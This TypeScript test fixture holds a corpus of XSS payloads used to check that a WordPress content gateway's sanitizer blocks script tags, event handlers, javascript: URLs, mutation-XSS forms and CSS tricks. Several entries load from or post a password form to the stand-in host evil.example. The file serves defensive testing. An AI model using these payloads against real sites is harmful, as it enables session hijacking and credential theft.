/**
 * The XSS corpus of the sample WordPress site: markup an editor, a compromised plugin or a pasted
 * embed could put in a story. Each payload calls `window.__xss('<id>')` (or loads from
 * evil.example) if it ever runs, so a browser test can tell; the gateway must let none through.
 * Drawn from the OWASP XSS filter evasion cheat sheet, known mutation-XSS (mXSS) forms and
 * WordPress-specific markup.
 */
export interface XssPayload {
  id: string;
  /** What the payload tries. */
  attack: string;
  html: string;
}

const call = (id: string) => `window.__xss('${id}')`;

export const XSS_PAYLOADS: readonly XssPayload[] = [
  // Script elements in their many spellings.
  { id: 'script-inline', attack: 'inline script element', html: `<script>${call('script-inline')}</script>` },
  { id: 'script-src', attack: 'external script', html: `<SCRIPT SRC=//evil.example/xss.js></SCRIPT>` },
  { id: 'script-split', attack: 'script tag split by a nested one', html: `<scr<script>ipt>${call('script-split')}</scr</script>ipt>` },
  { id: 'script-double-open', attack: 'doubled angle brackets', html: `<<script>${call('script-double-open')};//<</script>` },
  { id: 'script-in-attribute-break', attack: 'script after an unbalanced quoted attribute', html: `<img """><script>${call('script-in-attribute-break')}</script>">` },
  { id: 'script-in-template', attack: 'script inside a template', html: `<template><script>${call('script-in-template')}</script></template>` },
  // Inline event handlers.
  { id: 'img-onerror', attack: 'image error handler', html: `<img src="x" onerror="${call('img-onerror')}">` },
  { id: 'svg-onload', attack: 'inline SVG load handler', html: `<svg onload="${call('svg-onload')}"><circle r="10"></circle></svg>` },
  { id: 'body-onload', attack: 'nested body with load handler', html: `<body onload="${call('body-onload')}">` },
  { id: 'input-autofocus', attack: 'autofocused input with focus handler', html: `<input autofocus onfocus="${call('input-autofocus')}">` },
  { id: 'details-ontoggle', attack: 'open details with toggle handler', html: `<details open ontoggle="${call('details-ontoggle')}"><summary>More</summary>Text</details>` },
  { id: 'media-onerror', attack: 'video source and audio error handlers', html: `<video><source onerror="${call('media-onerror')}"></video><audio src="x" onerror="${call('media-onerror')}"></audio>` },
  { id: 'marquee-onstart', attack: 'marquee start handler', html: `<marquee onstart="${call('marquee-onstart')}">News</marquee>` },
  { id: 'handler-on-kept-link', attack: 'click handler on a link the gateway keeps', html: `<a href="/president/abraham-lincoln" onclick="${call('handler-on-kept-link')}" onmouseover="${call('handler-on-kept-link')}">Lincoln</a>` },
  { id: 'handler-uppercase', attack: 'upper-case handler name without quotes', html: `<IMG SRC=x ONERROR=${call('handler-uppercase')}>` },
  // Dangerous URLs.
  { id: 'href-javascript', attack: 'javascript: link', html: `<a href="javascript:${call('href-javascript')}">Click</a>` },
  { id: 'href-javascript-case', attack: 'mixed-case scheme', html: `<a href="JaVaScRiPt:${call('href-javascript-case')}">Click</a>` },
  { id: 'href-javascript-tab', attack: 'scheme broken by an encoded tab', html: `<a href="java&#x09;script:${call('href-javascript-tab')}">Click</a>` },
  { id: 'href-javascript-entities', attack: 'scheme spelt in decimal entities', html: `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${call('href-javascript-entities')}">Click</a>` },
  { id: 'href-javascript-colon-entity', attack: 'named colon entity', html: `<a href="javascript&colon;${call('href-javascript-colon-entity')}">Click</a>` },
  { id: 'href-javascript-space', attack: 'leading whitespace before the scheme', html: `<a href=" &#14; javascript:${call('href-javascript-space')}">Click</a>` },
  { id: 'href-data-html', attack: 'data: HTML document link', html: `<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3MoJ2hyZWYtZGF0YS1odG1sJyk8L3NjcmlwdD4=">Click</a>` },
  { id: 'href-vbscript', attack: 'vbscript: link', html: `<a href="vbscript:msgbox(1)">Click</a>` },
  { id: 'img-src-javascript', attack: 'javascript: image source and srcset', html: `<img src="javascript:${call('img-src-javascript')}" srcset="javascript:${call('img-src-javascript')} 1x" alt="x">` },
  { id: 'img-src-data-svg', attack: 'data: SVG image', html: `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+" alt="x">` },
  { id: 'img-tracker', attack: 'third-party tracking pixel', html: `<img src="https://evil.example/pixel.gif?c=1" width="1" height="1" alt="">` },
  { id: 'svg-xlink', attack: 'SVG link with an xlink:href script', html: `<svg><a xlink:href="javascript:${call('svg-xlink')}"><text x="0" y="20">Click</text></a></svg>` },
  { id: 'button-formaction', attack: 'form action by button', html: `<form><button formaction="javascript:${call('button-formaction')}">Send</button></form>` },
  // Frames, objects and embeds.
  { id: 'iframe-javascript', attack: 'javascript: frame', html: `<iframe src="javascript:${call('iframe-javascript')}"></iframe>` },
  { id: 'iframe-nested', attack: 'frames nested in frames', html: `<iframe src="https://evil.example/outer"><iframe src="https://evil.example/inner"><script>${call('iframe-nested')}</script></iframe></iframe>` },
  { id: 'iframe-srcdoc', attack: 'frame document in srcdoc', html: `<iframe srcdoc="&lt;script&gt;parent.${call('iframe-srcdoc')}&lt;/script&gt;"></iframe>` },
  { id: 'iframe-host-spoof', attack: 'frame host that only starts like an allowed one', html: `<iframe src="https://player.vimeo.com.evil.example/video/1"></iframe>` },
  { id: 'iframe-allowed-with-handler', attack: 'allowed video frame with a load handler', html: `<iframe src="https://www.youtube.com/embed/M7lc1UVf-VE" onload="${call('iframe-allowed-with-handler')}" title="Video"></iframe>` },
  { id: 'object-data', attack: 'object with javascript: data', html: `<object data="javascript:${call('object-data')}"></object>` },
  { id: 'embed-svg', attack: 'embedded data: SVG', html: `<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">` },
  // Document-level tricks.
  { id: 'meta-refresh', attack: 'meta refresh to a script URL', html: `<meta http-equiv="refresh" content="0;url=javascript:${call('meta-refresh')}">` },
  { id: 'base-href', attack: 'base element rebasing every link', html: `<base href="https://evil.example/">` },
  { id: 'link-stylesheet', attack: 'external stylesheet', html: `<link rel="stylesheet" href="https://evil.example/x.css">` },
  { id: 'form-phishing', attack: 'password form posting elsewhere', html: `<form action="https://evil.example/steal" method="post"><label>Password <input type="password" name="password"></label><button>Log in</button></form>` },
  { id: 'dom-clobbering', attack: 'ids and names that shadow the page globals', html: `<img name="getElementById" src="x" alt=""><a id="root" name="__APOLLO_STATE__" href="/">Home</a>` },
  // Styles that load, run, position or hide.
  { id: 'style-element', attack: 'style element importing and hiding the page', html: `<style>@import 'https://evil.example/x.css'; body { display: none }</style>` },
  { id: 'style-overlay', attack: 'fixed full-page overlay', html: `<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:#fff">Log in again</div>` },
  { id: 'style-hidden', attack: 'hidden spam text', html: `<p style="display:none">cheap pills</p><p style="visibility:hidden;font-size:0">more spam</p>` },
  { id: 'style-url', attack: 'script URL in a background', html: `<div style="background-image:url(javascript:${call('style-url')})">Text</div>` },
  { id: 'style-expression', attack: 'legacy CSS expressions and bindings', html: `<p style="width:expression(${call('style-expression')});behavior:url(x.htc);-moz-binding:url(https://evil.example/x.xml#x)">Text</p>` },
  // Mutation XSS: markup that parses differently after a round trip.
  { id: 'mxss-noscript', attack: 'noscript attribute breaking out on re-parse', html: `<noscript><p title="</noscript><img src=x onerror=${call('mxss-noscript')}>"></noscript>` },
  { id: 'mxss-math-style', attack: 'MathML namespace confusion', html: `<math><mtext><table><mglyph><style><img src=x onerror=${call('mxss-math-style')}></style></mglyph></table></mtext></math>` },
  { id: 'mxss-svg-style', attack: 'SVG style element with markup inside', html: `<svg><style><img src=x onerror=${call('mxss-svg-style')}></style></svg>` },
  { id: 'mxss-comment', attack: 'comment that closes early', html: `<!--<img src="--><img src=x onerror=${call('mxss-comment')}//">` },
  { id: 'mxss-textarea', attack: 'textarea closing inside an attribute', html: `<textarea><img title="</textarea><img src=x onerror=${call('mxss-textarea')}>"></textarea>` },
  // Malformed markup that must come out well-formed.
  { id: 'malformed-unclosed', attack: 'unclosed elements swallowing the page', html: `<div><p>Unclosed <b>bold <i>italic <a href="/president/john-adams">Adams` },
  { id: 'malformed-stray-close', attack: 'stray closing tags of the page around it', html: `</article></main></div></body><p>Outside?</p>` },
  { id: 'malformed-null-byte', attack: 'NUL byte inside a scheme', html: `<a href="java\u0000script:${call('malformed-null-byte')}">Click</a>` },
];
